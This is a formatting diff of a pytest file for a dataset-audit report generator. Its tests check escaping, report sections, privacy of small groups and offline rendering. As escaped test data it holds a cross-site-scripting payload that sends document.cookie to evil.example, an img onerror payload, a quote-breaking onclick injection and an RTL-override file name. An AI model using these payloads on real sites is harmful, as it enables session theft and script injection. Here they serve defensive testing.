@@ -55,7 +55,8 @@ def assert_self_contained(text):
 def test_the_builder_escapes_all_but_what_it_made():
     assert el("p", EVIL, el("b", "a<b")) == el("p", Markup("")).replace("</p>", "") + (
         "&quot;&gt;&lt;script&gt;fetch(&quot;http://evil.example/&quot;+document.cookie)&lt;/script&gt;"
-        "&lt;img src=x onerror=alert(1)&gt;<b>a&lt;b</b></p>")
+        "&lt;img src=x onerror=alert(1)&gt;<b>a&lt;b</b></p>"
+    )
     assert el("a", "x", title='" onclick="y', cls=None) == '<a title="&quot; onclick=&quot;y">x</a>'
     assert el("p", "a\u202eb\x00c") == "<p>a\ufffdb\ufffdc</p>"
     with pytest.raises(ValueError):
@@ -67,8 +68,20 @@ def test_the_page_of_the_planted_cohort(audited):
     text = open(result.report, encoding="utf-8").read()
     page = assert_self_contained(text)
     words = " ".join(page.words)
-    for title in ("In short", "The cohort", "Findings", "The map", "What can be read from the images", "Groups on the map",
-                  "Changes over time", "Looked for and not found", "Limits", "Method and provenance", "Data sheet", "Glossary"):
+    for title in (
+        "In short",
+        "The cohort",
+        "Findings",
+        "The map",
+        "What can be read from the images",
+        "Groups on the map",
+        "Changes over time",
+        "Looked for and not found",
+        "Limits",
+        "Method and provenance",
+        "Data sheet",
+        "Glossary",
+    ):
         assert title in words
     assert "site.auc>0.6" in words and "FAILED" in words and "weight" in words
     assert "Benjamini-Hochberg" in words and "prefers-color-scheme" in text and "@media print" in text
@@ -87,20 +100,32 @@ def test_the_same_runs_give_the_same_report(audited, tmp_path):
 
 
 def test_hostile_values_stay_text(cohort_maker, short, tmp_path):
-    extra = {EVIL: lambda rng, s: np.array([EVIL, "b"])[rng.integers(0, 2, s.max() + 1)][s].tolist(),
-             "ünï </style>": lambda rng, s: np.array(["</title><script>1</script>", "\u202egnp.exe"])[s % 2].tolist()}
+    extra = {
+        EVIL: lambda rng, s: np.array([EVIL, "b"])[rng.integers(0, 2, s.max() + 1)][s].tolist(),
+        "ünï </style>": lambda rng, s: np.array(["</title><script>1</script>", "\u202egnp.exe"])[s % 2].tolist(),
+    }
     dataset = cohort_maker("test-report-hostile")
     rng = np.random.default_rng(0)
     subject = np.repeat(np.arange(100), 2)
     # field names that FiftyOne itself takes; values are free
     for k, make in enumerate(extra.values()):
-        store.write_values(dataset, f"field_{k}", dict(zip(store.sample_ids(dataset), make(rng, subject), strict=True)), "string")
+        store.write_values(
+            dataset, f"field_{k}", dict(zip(store.sample_ids(dataset), make(rng, subject), strict=True)), "string"
+        )
     figure = {"name": EVIL, "title": EVIL, "caption": EVIL, "png": "gone.png", "plotly": None}
-    store.save_run(dataset, schema.EXPLAIN_RUN_PREFIX + "evil", {"comparison": EVIL},
-                   {"sentence": EVIL, "figures": [figure], "notes": [EVIL]})
+    store.save_run(
+        dataset,
+        schema.EXPLAIN_RUN_PREFIX + "evil",
+        {"comparison": EVIL},
+        {"sentence": EVIL, "figures": [figure], "notes": [EVIL]},
+    )
     result = dataset.audit(config=short, out=tmp_path / "evil.html", progress=None)
-    dataset.review(next(f.key for f in result.findings.rows if f.kind == "probe"), note=EVIL, author=EVIL, progress=None)
-    done = dataset.write_report(tmp_path / "evil.html", title=EVIL, description=EVIL, license=EVIL, creator=EVIL, progress=None)
+    dataset.review(
+        next(f.key for f in result.findings.rows if f.kind == "probe"), note=EVIL, author=EVIL, progress=None
+    )
+    done = dataset.write_report(
+        tmp_path / "evil.html", title=EVIL, description=EVIL, license=EVIL, creator=EVIL, progress=None
+    )
     text = (tmp_path / "evil.html").read_text(encoding="utf-8")
     page = assert_self_contained(text)
     assert EVIL in " ".join(page.words) and "\u202e" not in text and "pictures are gone" in done.notes[0]
@@ -131,8 +156,12 @@ def test_an_unaudited_dataset_has_a_report_too(cohort_maker, tmp_path):
 def test_small_groups_are_not_told(dataset_name):
     dataset = fo.Dataset(dataset_name)
     rare = ["common"] * 40 + ["rare disease"] * 4
-    dataset.add_samples([fo.Sample(filepath=f"/n/{k}.png", subject_id=f"P{k}", dx=rare[k], free=f"text {k}", age=float(k))
-                         for k in range(44)])
+    dataset.add_samples(
+        [
+            fo.Sample(filepath=f"/n/{k}.png", subject_id=f"P{k}", dx=rare[k], free=f"text {k}", age=float(k))
+            for k in range(44)
+        ]
+    )
     facts = cohort_facts(dataset, k=5)
     fields = {f.name: f for f in facts.fields}
     assert fields["dx"].values == (("common", 40),) and fields["dx"].rest == 1
@@ -145,7 +174,9 @@ def test_small_groups_are_not_told(dataset_name):
 
 def test_missing_values_are_counted(dataset_name):
     dataset = fo.Dataset(dataset_name)
-    dataset.add_samples([fo.Sample(filepath=f"/n/{k}.png", sex=None if k % 4 == 0 else "F", note="") for k in range(20)])
+    dataset.add_samples(
+        [fo.Sample(filepath=f"/n/{k}.png", sex=None if k % 4 == 0 else "F", note="") for k in range(20)]
+    )
     fields = {f.name: f for f in cohort_facts(dataset).fields}
     assert fields["sex"].n_missing == 5 and fields["note"].n_missing == 20 and fields["note"].n_values == 0
     assert not cohort_facts(dataset).has_subjects
@@ -153,14 +184,22 @@ def test_missing_values_are_counted(dataset_name):
 
 def test_croissant_says_what_was_found_and_names_nobody(audited, tmp_path):
     dataset, _ = audited
-    done = dataset.write_report(tmp_path / "c.html", formats=["croissant"], license="https://example.org/l", creator="The clinic",
-                                progress=None)
+    done = dataset.write_report(
+        tmp_path / "c.html", formats=["croissant"], license="https://example.org/l", creator="The clinic", progress=None
+    )
     assert list(done.files) == ["croissant"] and not (tmp_path / "c.html").exists()
     text = open(done.files["croissant"], encoding="utf-8").read()
     got = json.loads(text)
     assert got["@type"] == "sc:Dataset" and "http://mlcommons.org/croissant/RAI/1.0" in got["conformsTo"]
-    for key in ("rai:dataBiases", "rai:dataLimitations", "rai:dataCollection", "rai:personalSensitiveInformation",
-                "rai:dataCollectionMissingData", "rai:dataPreprocessingProtocol", "rai:dataCollectionTimeframe"):
+    for key in (
+        "rai:dataBiases",
+        "rai:dataLimitations",
+        "rai:dataCollection",
+        "rai:personalSensitiveInformation",
+        "rai:dataCollectionMissingData",
+        "rai:dataPreprocessingProtocol",
+        "rai:dataCollectionTimeframe",
+    ):
         assert got[key], key
     assert any("site can be read from the images (AUC" in b for b in got["rai:dataBiases"])
     assert got["license"] == "https://example.org/l" and got["creator"]["name"] == "The clinic"
@@ -175,8 +214,10 @@ def test_croissant_says_what_was_found_and_names_nobody(audited, tmp_path):
 def test_bad_input_is_one_clear_error(audited, tmp_path):
     dataset, _ = audited
     for options, message in (
-        ({"out": tmp_path / "x.pdf"}, "must end in .html"), ({"out": tmp_path / "no" / "x.html"}, "there is no folder"),
-        ({"formats": ["pdf"]}, "formats must be of html, json, croissant"), ({"k": 0}, "k must be at least 1"),
+        ({"out": tmp_path / "x.pdf"}, "must end in .html"),
+        ({"out": tmp_path / "no" / "x.html"}, "there is no folder"),
+        ({"formats": ["pdf"]}, "formats must be of html, json, croissant"),
+        ({"k": 0}, "k must be at least 1"),
         ({"color_by": ["sexx"]}, "field 'sexx' does not exist"),
     ):
         with pytest.raises(InputError, match=message):
@@ -215,7 +256,9 @@ def test_in_a_browser_nothing_is_fetched_and_nothing_overflows(audited, chromium
         page.goto(f"file://{result.report}")
         assert [u for u in asked if not u.startswith(("file:", "data:"))] == [] and said == []
         assert page.evaluate("document.documentElement.scrollWidth") <= width
-        fore, back = page.evaluate("[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]")
+        fore, back = page.evaluate(
+            "[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]"
+        )
         assert abs(brightness(fore) - brightness(back)) > 0.7 and (brightness(back) < 0.3) == (scheme == "dark")
         assert page.evaluate("[...document.images].every(i => i.naturalWidth > 50)")
         context.close()
